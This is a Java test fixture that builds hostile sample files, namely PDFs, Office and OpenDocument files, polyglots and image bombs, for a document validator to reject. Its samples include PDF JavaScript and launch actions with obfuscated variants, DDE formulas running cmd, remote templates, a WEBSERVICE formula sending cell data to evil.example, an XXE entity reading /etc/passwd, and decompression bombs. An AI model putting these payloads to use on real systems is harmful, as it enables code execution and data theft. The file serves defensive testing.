package land.starkeorte.documents;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** Files that nobody must get from us, each with the answer that it must get. */
final class MaliciousFiles {
    private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private MaliciousFiles() {}

    record Sample(String name, FileType kind, byte[] content, RejectionReason reason) {
        @Override
        public String toString() {
            return kind + ": " + name;
        }
    }

    static List<Sample> all() {
        var all = new ArrayList<Sample>();
        pdfs(all);
        polyglots(all);
        word(all);
        excel(all);
        openDocument(all);
        pictures(all);
        return all;
    }

    private static void pdfs(List<Sample> all) {
        pdf(
                all,
                "JavaScript on opening",
                RejectionReason.SCRIPT,
                "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>");
        pdf(
                all,
                "JavaScript, escaped",
                RejectionReason.SCRIPT,
                "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>");
        pdf(all, "JavaScript behind comments", RejectionReason.SCRIPT, "/OpenAction%x\n<</S%y\r/JavaScript/JS(1)>>");
        pdf(all, "JavaScript by name", RejectionReason.SCRIPT, "/Names << /JavaScript << /Names [(a) 9 0 R] >> >>");
        pdf(all, "launch", RejectionReason.SCRIPT, "/OpenAction << /S /Launch /F (cmd.exe) >>");
        pdf(
                all,
                "launch, by a click",
                RejectionReason.SCRIPT,
                "/Outlines << /First << /A << /S /Launch /Win << >> >> >> >>");
        pdf(all, "address on opening", RejectionReason.OUTSIDE, "/OpenAction << /S /URI /URI (http://evil.example) >>");
        pdf(
                all,
                "other file on opening",
                RejectionReason.OUTSIDE,
                "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>");
        pdf(
                all,
                "address after going to a page",
                RejectionReason.OUTSIDE,
                "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (x) >>] >>");
        pdf(
                all,
                "address on closing",
                RejectionReason.OUTSIDE,
                "/AA << /WC << /S /URI /URI (http://evil.example) >> >>");
        pdf(all, "embedded target", RejectionReason.EMBEDDED, "/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>");
        pdf(
                all,
                "form that submits",
                RejectionReason.FORM,
                "/AcroForm << /Fields [<< /FT /Btn /A << /S /SubmitForm /F (http://evil.example) >> >>] >>");
        pdf(
                all,
                "form that imports",
                RejectionReason.FORM,
                "/AcroForm << /Fields [<< /FT /Btn /A << /S /ImportData /F (c:/x) >> >>] >>");
        pdf(all, "XFA", RejectionReason.FORM, "/AcroForm << /XFA [(template) 9 0 R] >>");
        pdf(all, "attachment", RejectionReason.EMBEDDED, "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>");
        pdf(
                all,
                "associated file, as e-invoices have",
                RejectionReason.EMBEDDED,
                "/AF [<< /Type /Filespec /F (factur-x.xml) /AFRelationship /Alternative /EF << /F 9 0 R >> >>]");
        pdf(all, "rendition", RejectionReason.SCRIPT, "/OpenAction << /S /Rendition /OP 0 /R 9 0 R >>");
        pdf(all, "rich media", RejectionReason.SCRIPT, "/X [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]");
        pdf(all, "3D with a script", RejectionReason.SCRIPT, "/X << /Type /3D /OnInstantiate 9 0 R >>");
        pdf(
                all,
                "page of another file",
                RejectionReason.OUTSIDE,
                "/X << /Subtype /Form /Ref << /F (x.pdf) /Page 0 >> >>");

        String action = "<< /S /JavaScript /JS (app.alert(1)) >>";
        add(
                all,
                "action of its own",
                RejectionReason.SCRIPT,
                pdf("/OpenAction 9 0 R", "9 0 obj " + action + " endobj\n"));
        add(
                all,
                "address in an action of its own",
                RejectionReason.OUTSIDE,
                pdf("/OpenAction 9 0 R", "9 0 obj << /S /URI /URI (x) >> endobj\n"));
        add(
                all,
                "address two actions on",
                RejectionReason.OUTSIDE,
                pdf(
                        "/OpenAction 9 0 R",
                        "8 0 obj << /S /URI /URI (x) >> endobj\n9 0 obj << /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >> endobj\n"));
        add(
                all,
                "address in additional actions of their own",
                RejectionReason.OUTSIDE,
                pdf("/AA 9 0 R", "8 0 obj << /S /URI /URI (x) >> endobj\n9 0 obj << /WC 8 0 R >> endobj\n"));
        add(
                all,
                "action in an object stream",
                RejectionReason.SCRIPT,
                pdf("/OpenAction 9 0 R", objectStream("/Filter /FlateDecode", flate(inStream(9, action)))));
        add(
                all,
                "action in an object stream, packed twice",
                RejectionReason.SCRIPT,
                pdf("/OpenAction 9 0 R", objectStream("/Filter [/AHx /Fl]", hexadecimal(flate(inStream(9, action))))));
        add(
                all,
                "action in an object stream, by runs",
                RejectionReason.SCRIPT,
                pdf("/OpenAction 9 0 R", objectStream("/Filter /RunLengthDecode", runs(inStream(9, action)))));
        add(
                all,
                "action in an object stream, as numbers of 85",
                RejectionReason.SCRIPT,
                pdf("/OpenAction 9 0 R", objectStream("/Filter /ASCII85Decode", ascii85(inStream(9, action)))));
        add(
                all,
                "action in an object stream, by differences",
                RejectionReason.SCRIPT,
                pdf(
                        "/OpenAction 9 0 R",
                        objectStream(
                                "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>",
                                flate(differences(inStream(9, action), 8)))));
        add(
                all,
                "action in an object stream without its type",
                RejectionReason.SCRIPT,
                pdf(
                        "/OpenAction 9 0 R",
                        new String(
                                        objectStream("/Filter /FlateDecode", flate(inStream(9, action)))
                                                .getBytes(ISO_8859_1),
                                        ISO_8859_1)
                                .replace("/Type /ObjStm", "")));
        add(
                all,
                "action inside a stream that claims to be long",
                RejectionReason.SCRIPT,
                pdf(
                        "/OpenAction 9 0 R",
                        "7 0 obj << /Length 9999 >> stream\n9 0 obj " + action + " endobj\nendstream endobj\n"));
        add(
                all,
                "action inside a text",
                RejectionReason.SCRIPT,
                pdf(
                        "/OpenAction 9 0 R",
                        "7 0 obj (9 0 obj " + action.replace("(app.alert(1))", "9 0 R") + " endobj) endobj\n"));
        add(
                all,
                "content in another file",
                RejectionReason.OUTSIDE,
                pdf("", "9 0 obj << /Length 0 /F (http://evil.example) >> stream\n\nendstream endobj\n"));
        add(
                all,
                "attachment that one sees",
                RejectionReason.EMBEDDED,
                pdf("", "9 0 obj << /Type /Annot /Subtype /FileAttachment >> endobj\n"));
        add(
                all,
                "picture of impossible size",
                RejectionReason.PIXELS,
                pdf(
                        "",
                        "9 0 obj << /Subtype /Image /Width 2000000000 /Height 2000000000 /Filter /JPXDecode /Length 1 >> stream\nx\nendstream endobj\n"));
        add(all, "two hundred thousand brackets", RejectionReason.BOMB, pdf("/X " + "[".repeat(200_000), ""));
        add(
                all,
                "content that is a bomb",
                RejectionReason.BOMB,
                pdf("", stream("9 0 obj << /Filter /FlateDecode", flate(new byte[8_000_000]))));
        add(
                all,
                "bomb in a bomb",
                RejectionReason.BOMB,
                pdf("", stream("9 0 obj << /Filter [/FlateDecode /FlateDecode]", flate(flate(new byte[100_000_000])))));
        add(
                all,
                "table of contents that is a bomb",
                RejectionReason.BOMB,
                pdf("", stream("9 0 obj << /Type /XRef /W [1 2 1] /Filter /FlateDecode", flate(new byte[8_000_000]))));
        add(
                all,
                "objects that are a bomb",
                RejectionReason.BOMB,
                pdf("", objectStream("/Filter /FlateDecode", flate(new byte[40_000_000]))));
        add(
                all,
                "objects in front of their stream",
                RejectionReason.BROKEN,
                pdf(
                        "",
                        stream(
                                "7 0 obj << /Type /ObjStm /N 1 /First -99 /Filter /FlateDecode",
                                flate(inStream(9, action)))));
        add(all, "a password", RejectionReason.ENCRYPTED, SampleFiles.pdf("", "b"));
        add(
                all,
                "no page",
                RejectionReason.BROKEN,
                new String(pdf("", ""), ISO_8859_1).replace("/Type /Page ", "").getBytes(ISO_8859_1));
    }

    private static void polyglots(List<Sample> all) {
        byte[] pdf = pdf("", "");
        add(all, "HTML in front", RejectionReason.TYPE, join("<script>1</script>".getBytes(UTF_8), pdf));
        add(all, "HTML behind", RejectionReason.FOREIGN, join(pdf, "<script>1</script>".getBytes(UTF_8)));
        add(all, "program behind", RejectionReason.FOREIGN, join(pdf, SampleFiles.exe()));
        add(all, "ZIP behind", RejectionReason.FOREIGN, join(pdf, SampleFiles.zip("a.js", "1")));
        add(
                all,
                "ZIP behind, and an end behind that",
                RejectionReason.FOREIGN,
                join(pdf, SampleFiles.zip("a.js", "1"), "\n%%EOF\n".getBytes(UTF_8)));
        all.add(new Sample(
                "a JPEG that is also a ZIP",
                FileType.JPEG,
                join(SampleFiles.jpeg(), SampleFiles.zip("a.js", "1")),
                RejectionReason.FOREIGN));
        all.add(new Sample(
                "a PNG that is also a ZIP",
                FileType.PNG,
                join(SampleFiles.png(), SampleFiles.zip("a.js", "1")),
                RejectionReason.FOREIGN));
        all.add(new Sample(
                "a DOCX with a program behind",
                FileType.DOCX,
                join(SampleFiles.ooxml(FileType.DOCX), SampleFiles.exe()),
                RejectionReason.FOREIGN));
        all.add(new Sample(
                "a DOCX behind a program",
                FileType.DOCX,
                join(SampleFiles.exe(), SampleFiles.ooxml(FileType.DOCX)),
                RejectionReason.TYPE));
    }

    private static void word(List<Sample> all) {
        relation(
                all,
                "template from elsewhere",
                FileType.DOCX,
                "word/_rels/settings.xml.rels",
                "attachedTemplate",
                "http://evil.example/t.dotm",
                RejectionReason.OUTSIDE);
        relation(
                all,
                "template from a server",
                FileType.DOCX,
                "word/_rels/settings.xml.rels",
                "attachedTemplate",
                "file:///\\\\evil.example\\t.dotm",
                RejectionReason.OUTSIDE);
        relation(
                all,
                "object from elsewhere",
                FileType.DOCX,
                "word/_rels/document.xml.rels",
                "oleObject",
                "http://evil.example/x",
                RejectionReason.OUTSIDE);
        relation(
                all,
                "picture from elsewhere",
                FileType.DOCX,
                "word/_rels/document.xml.rels",
                "image",
                "http://evil.example/x.png",
                RejectionReason.OUTSIDE);
        relation(
                all,
                "frame from elsewhere",
                FileType.DOCX,
                "word/_rels/webSettings.xml.rels",
                "frame",
                "http://evil.example/",
                RejectionReason.OUTSIDE);
        office(
                all,
                "macro under another name",
                FileType.DOCX,
                RejectionReason.MACROS,
                "word/_rels/document.xml.rels",
                "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"x.bin\"/></Relationships>",
                "word/x.bin",
                SampleFiles.ole());
        office(
                all,
                "macro with its name in capitals",
                FileType.DOCX,
                RejectionReason.MACROS,
                "word/VBAPROJECT.BIN",
                SampleFiles.ole());
        office(
                all,
                "buttons that start something",
                FileType.DOCX,
                RejectionReason.MACROS,
                "_rels/.rels",
                "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2007/relationships/ui/extensibility\" Target=\"ui.xml\"/></Relationships>");
        office(
                all,
                "ActiveX",
                FileType.DOCX,
                RejectionReason.MACROS,
                "word/_rels/document.xml.rels",
                "<Relationships><Relationship Type=\"" + RELATION + "control\" Target=\"c.xml\"/></Relationships>");
        office(
                all,
                "object under a harmless name",
                FileType.DOCX,
                RejectionReason.EMBEDDED,
                "word/media/image1.png",
                SampleFiles.ole());
        office(
                all,
                "program inside",
                FileType.DOCX,
                RejectionReason.EMBEDDED,
                "word/embeddings/evil.exe",
                SampleFiles.exe());
        office(
                all,
                "archive inside",
                FileType.DOCX,
                RejectionReason.EMBEDDED,
                "word/embeddings/a.zip",
                SampleFiles.zip("a", "a"));
        office(
                all,
                "macro in a table inside",
                FileType.DOCX,
                RejectionReason.MACROS,
                "word/embeddings/a.xlsx",
                SampleFiles.ooxml(FileType.XLSX, "xl/vbaProject.bin", SampleFiles.ole()));
        office(all, "PDF inside", FileType.DOCX, RejectionReason.EMBEDDED, "word/embeddings/a.bin", pdf("", ""));
        office(
                all,
                "web page inside",
                FileType.DOCX,
                RejectionReason.EMBEDDED,
                "word/_rels/document.xml.rels",
                "<Relationships><Relationship Type=\"" + RELATION + "aFChunk\" Target=\"a.html\"/></Relationships>");
        office(
                all,
                "DDE in a simple field",
                FileType.DOCX,
                RejectionReason.OUTSIDE,
                "word/document.xml",
                "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\" ddeauto c:\\\\x\\\\cmd.exe\"/></w:p>");
        office(
                all,
                "DDE over three runs",
                FileType.DOCX,
                RejectionReason.OUTSIDE,
                "word/document.xml",
                "<w:p xmlns:w=\"w\"><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd</w:instrText></w:r></w:p>");
        office(
                all,
                "DDE behind a field inside a field",
                FileType.DOCX,
                RejectionReason.OUTSIDE,
                "word/footnotes.xml",
                "<w:p xmlns:w=\"w\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText>D</w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:instrText>DE x y</w:instrText></w:p>");
        office(
                all,
                "DDE in UTF-16",
                FileType.DOCX,
                RejectionReason.OUTSIDE,
                "word/document.xml",
                "\ufeff<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"DDE x y\"/></w:p>"
                        .getBytes(java.nio.charset.StandardCharsets.UTF_16BE));
        office(
                all,
                "text from elsewhere",
                FileType.DOCX,
                RejectionReason.OUTSIDE,
                "word/document.xml",
                "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"INCLUDETEXT http://evil.example\"/></w:p>");
        office(
                all,
                "entities",
                FileType.DOCX,
                RejectionReason.FOREIGN,
                "word/document.xml",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
        office(
                all,
                "picture of impossible size",
                FileType.DOCX,
                RejectionReason.PIXELS,
                "word/media/image1.png",
                png(50_000, 50_000));
        office(
                all,
                "list that names macros",
                FileType.DOCX,
                RejectionReason.MACROS,
                "a.xml",
                "<Types><Override ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
    }

    private static void excel(List<Sample> all) {
        relation(
                all,
                "table from elsewhere",
                FileType.XLSX,
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                "externalLinkPath",
                "file:///\\\\evil.example\\a.xlsx",
                RejectionReason.OUTSIDE);
        relation(
                all,
                "connections",
                FileType.XLSX,
                "xl/_rels/workbook.xml.rels",
                "connections",
                "connections.xml",
                RejectionReason.OUTSIDE);
        office(
                all,
                "DDE link",
                FileType.XLSX,
                RejectionReason.OUTSIDE,
                "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
        office(
                all,
                "DDE in a formula",
                FileType.XLSX,
                RejectionReason.OUTSIDE,
                "xl/worksheets/sheet1.xml",
                "<c><f>cmd|'/c calc'!A1</f></c>");
        office(
                all,
                "DDE with quotes",
                FileType.XLSX,
                RejectionReason.OUTSIDE,
                "xl/worksheets/sheet1.xml",
                "<c><f>\"a\"&amp;'cmd'|'/c calc'!A1</f></c>");
        office(
                all,
                "DDE in a name",
                FileType.XLSX,
                RejectionReason.OUTSIDE,
                "xl/workbook.xml",
                "<definedName name=\"a\">MSEXCEL|'\\..\\cmd'!x</definedName>");
        office(
                all,
                "fetching formula",
                FileType.XLSX,
                RejectionReason.OUTSIDE,
                "xl/worksheets/sheet1.xml",
                "<c><f>_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A1)</f></c>");
        office(
                all,
                "macro sheet",
                FileType.XLSX,
                RejectionReason.MACROS,
                "a.xml",
                "<Types><Override ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>");
        office(
                all,
                "macro sheet by its relation",
                FileType.XLSX,
                RejectionReason.MACROS,
                "xl/_rels/workbook.xml.rels",
                "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"a.xml\"/></Relationships>");
    }

    private static void openDocument(List<Sample> all) {
        String link = "xmlns:x=\"http://www.w3.org/1999/xlink\"";
        odf(
                all,
                "macro on opening",
                FileType.ODT,
                RejectionReason.MACROS,
                "<a xmlns:script=\"s\"><script:event-listener script:event-name=\"dom:load\"/></a>");
        odf(
                all,
                "macro behind a link",
                FileType.ODT,
                RejectionReason.MACROS,
                "<a><a " + link + " x:href=\"vnd.sun.star.script:x.py$f?language=Python\"/></a>");
        odf(
                all,
                "picture from elsewhere",
                FileType.ODT,
                RejectionReason.OUTSIDE,
                "<d xmlns:draw=\"d\"><draw:image " + link + " x:href=\"http://evil.example/x.png\"/></d>");
        odf(
                all,
                "part of another file",
                FileType.ODT,
                RejectionReason.OUTSIDE,
                "<t xmlns:text=\"t\"><text:section-source " + link + " x:href=\"../geheim.odt\"/></t>");
        odf(all, "frame", FileType.ODT, RejectionReason.OUTSIDE, "<d xmlns:draw=\"d\"><draw:floating-frame/></d>");
        odf(
                all,
                "form that submits",
                FileType.ODT,
                RejectionReason.FORM,
                "<f xmlns:form=\"f\"><form:form " + link + " x:href=\"http://evil.example\"/></f>");
        odf(
                all,
                "DDE",
                FileType.ODS,
                RejectionReason.OUTSIDE,
                "<t xmlns:table=\"t\"><table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)\"/></t>");
        odf(
                all,
                "fetching formula",
                FileType.ODS,
                RejectionReason.OUTSIDE,
                "<t xmlns:table=\"t\"><table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)\"/></t>");
        odf(
                all,
                "table from elsewhere",
                FileType.ODS,
                RejectionReason.OUTSIDE,
                "<t xmlns:table=\"t\"><table:table-source " + link + " x:href=\"file://evil.example/a.ods\"/></t>");
        all.add(new Sample(
                "Basic",
                FileType.ODS,
                SampleFiles.odf(FileType.ODS, "Basic/Standard/Module1.xml", "<x/>"),
                RejectionReason.MACROS));
        all.add(new Sample(
                "object of Windows",
                FileType.ODT,
                SampleFiles.odf(FileType.ODT, "Object 1", SampleFiles.ole()),
                RejectionReason.EMBEDDED));
    }

    private static void pictures(List<Sample> all) {
        all.add(new Sample("fifty thousand square", FileType.PNG, png(50_000, 50_000), RejectionReason.PIXELS));
        all.add(new Sample(
                "one row of two thousand millions", FileType.PNG, png(2_000_000_000, 1), RejectionReason.PIXELS));
        byte[] jpeg = SampleFiles.jpeg();
        for (int i = 0; i < jpeg.length - 8; i++) {
            if ((jpeg[i] & 0xff) == 0xff && (jpeg[i + 1] & 0xff) == 0xc0) {
                jpeg[i + 5] = (byte) 0xea;
                jpeg[i + 7] = (byte) 0xea;
            }
        }
        all.add(new Sample("sixty thousand square", FileType.JPEG, jpeg, RejectionReason.PIXELS));
        all.add(new Sample("a head without a picture", FileType.PNG, png(10, 10), RejectionReason.BROKEN));
    }

    /** Made by hand, so that nothing stands in it but what the test wants. */
    static byte[] pdf(String catalog, String more) {
        return ("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + catalog
                        + " >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
                        + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n" + more
                        + "trailer << /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n")
                .getBytes(ISO_8859_1);
    }

    private static void pdf(List<Sample> all, String name, RejectionReason reason, String catalog) {
        add(all, name, reason, pdf(catalog, ""));
    }

    private static void add(List<Sample> all, String name, RejectionReason reason, byte[] content) {
        all.add(new Sample(name, FileType.PDF, content, reason));
    }

    private static void relation(
            List<Sample> all,
            String name,
            FileType kind,
            String part,
            String type,
            String target,
            RejectionReason reason) {
        office(
                all,
                name,
                kind,
                reason,
                part,
                "<Relationships><Relationship Id=\"r\" Type=\"" + RELATION + type + "\" Target=\"" + target
                        + "\" TargetMode=\"External\"/></Relationships>");
    }

    private static void office(List<Sample> all, String name, FileType kind, RejectionReason reason, Object... parts) {
        all.add(new Sample(name, kind, SampleFiles.ooxml(kind, parts), reason));
    }

    private static void odf(List<Sample> all, String name, FileType kind, RejectionReason reason, String part) {
        all.add(new Sample(name, kind, SampleFiles.odf(kind, "styles.xml", part), reason));
    }

    static String stream(String head, byte[] content) {
        return head + " /Length " + content.length + " >> stream\n" + new String(content, ISO_8859_1)
                + "\nendstream endobj\n";
    }

    /** {@code content} has one object behind a head of ten bytes. */
    static String objectStream(String filter, byte[] content) {
        return stream("7 0 obj << /Type /ObjStm /N 1 /First 10 " + filter, content);
    }

    private static byte[] inStream(int number, String object) {
        return "%-10s%s".formatted(number + " 0", object).getBytes(ISO_8859_1);
    }

    static byte[] flate(byte[] content) {
        var packed = new ByteArrayOutputStream();
        try (var flate = new DeflaterOutputStream(packed, new Deflater(9))) {
            flate.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private static byte[] hexadecimal(byte[] content) {
        return (java.util.HexFormat.of().formatHex(content) + ">").getBytes(ISO_8859_1);
    }

    private static byte[] runs(byte[] content) {
        return join(new byte[] {(byte) (content.length - 1)}, content, new byte[] {(byte) 128});
    }

    private static byte[] ascii85(byte[] content) {
        var text = new StringBuilder();
        byte[] whole = java.util.Arrays.copyOf(content, (content.length + 3) / 4 * 4);
        for (int i = 0; i < whole.length; i += 4) {
            long value = java.nio.ByteBuffer.wrap(whole, i, 4).getInt() & 0xffffffffL;
            for (long power = 52_200_625; power > 0; power /= 85) {
                text.append((char) ('!' + value / power % 85));
            }
        }
        return (text + "~>").getBytes(ISO_8859_1);
    }

    /** PNG's second way: each byte as the difference to the one above it. */
    private static byte[] differences(byte[] content, int columns) {
        var out = new ByteArrayOutputStream();
        byte[] whole = java.util.Arrays.copyOf(content, (content.length + columns - 1) / columns * columns);
        for (int i = 0; i < whole.length; i++) {
            if (i % columns == 0) {
                out.write(2);
            }
            out.write(whole[i] - (i < columns ? 0 : whole[i - columns]));
        }
        return out.toByteArray();
    }

    /** A head of this size, and nothing behind it. */
    static byte[] png(int width, int height) {
        var head = java.nio.ByteBuffer.allocate(17);
        head.put("IHDR".getBytes(ISO_8859_1)).putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
        var sum = new CRC32();
        sum.update(head.array());
        var png = java.nio.ByteBuffer.allocate(8 + 4 + 17 + 4);
        png.put("\u0089PNG\r\n\u001a\n".getBytes(ISO_8859_1))
                .putInt(13)
                .put(head.array())
                .putInt((int) sum.getValue());
        return png.array();
    }

    static byte[] join(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
